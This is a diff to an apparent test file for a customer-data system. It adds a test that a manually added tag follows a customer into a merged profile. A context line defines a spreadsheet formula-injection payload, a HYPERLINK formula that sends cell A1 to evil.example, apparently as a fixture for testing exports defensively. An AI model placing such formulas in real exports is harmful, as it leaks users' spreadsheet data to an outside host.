@@ -299,6 +299,22 @@ describe('obvious cases', () => {
   });
 });
 
+test('a manual tag follows its customer into the profile they merge into', async () => {
+  const ws = await createTestWorkspace(h, 'merging');
+  await ingest(ws, [paid('tmall', 'M1', day(9), 1_000, [phone('13911110001')])]);
+  await ingest(ws, [paid('taobao', 'M2', day(8), 1_000, [nick('merge-me')])]);
+  const older = await customerOf(ws, '139****0001');
+  const newer = await customerOf(ws, 'm***e');
+  await addManualTag(h.db, ws, newer, { tag: 'manual:vip', note: 'n' }, 'op:amy', NOW);
+  await ingest(ws, [event('identity.linked', [phone('13911110001'), nick('merge-me')], day(1), {})]);
+  expect(await tagRow(ws, older, 'manual:vip')).toMatchObject({
+    source: 'manual',
+    since: NOW,
+    reason: { actor: 'op:amy', note: 'n', merged_from: newer },
+  });
+  expect(await tagRow(ws, newer, 'manual:vip')).toBeUndefined();
+});
+
 describe('exports', () => {
   let ws: Workspace;
   const EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"click me")';
